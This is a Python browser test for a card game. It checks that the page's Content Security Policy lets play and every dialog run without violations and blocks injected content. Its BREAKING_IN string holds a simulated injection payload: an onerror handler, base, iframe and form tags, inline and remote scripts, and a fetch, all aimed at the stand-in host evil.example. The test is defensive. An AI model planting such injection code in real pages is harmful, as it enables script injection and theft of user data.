"""The page's own Content Security Policy: a game gets by with it, and it is in force."""

from __future__ import annotations

from tests.browser.pages import DESK, OpenPage, started
from tests.browser.visit import click, play_on, say, sit_down

LISTEN = """
globalThis.violations = [];
addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));
"""
DIALOGS = ("menu", "log", "scores", "settings", "rules", "keys", "fairness", "stored")

# Each of these is what somebody would do who has got text of his own into the page.
BREAKING_IN = """async () => {
    document.body.insertAdjacentHTML("beforeend", `<p style="color: red"></p><style>p { color: red }</style>
        <img src="https://evil.example/x.png" onerror="globalThis.broken_in = true"><base href="https://evil.example/">
        <iframe src="https://evil.example/"></iframe><form id="form" action="https://evil.example/"></form>`);
    document.body.append(Object.assign(document.createElement("script"), { text: "globalThis.broken_in = true" }));
    document.body.append(Object.assign(document.createElement("script"), { src: "https://evil.example/x.js" }));
    await fetch("https://evil.example/").catch(() => {});
    document.getElementById("form").submit();
}"""
REFUSED = {
    "style-src-attr",
    "style-src-elem",
    "img-src",
    "base-uri",
    "frame-src",
    "script-src-elem",
    "connect-src",
    "form-action",
}


def test_a_deal_is_played_and_every_dialog_opened_without_a_violation_and_breaking_in_is_refused(
    open_page: OpenPage,
) -> None:
    page = open_page(DESK, breaks=True)  # what is refused is told in the console, too
    page.add_init_script(LISTEN)
    started(page)
    sit_down(page, "set sound on")
    while page.locator(".table.counting").count() == 0:
        play_on(page, click)
    for dialog in DIALOGS:
        say(page, f"open {dialog}")
        page.locator(f"#dialog-{dialog}").wait_for()
    assert len(page.workers) == 1, "the opponent thought in its worker"
    assert page.evaluate("violations") == []

    page.evaluate(BREAKING_IN)
    page.wait_for_function("wanted => new Set(violations).size >= wanted", arg=len(REFUSED))
    assert set(page.evaluate("violations")) >= REFUSED
    assert page.evaluate("globalThis.broken_in") is None
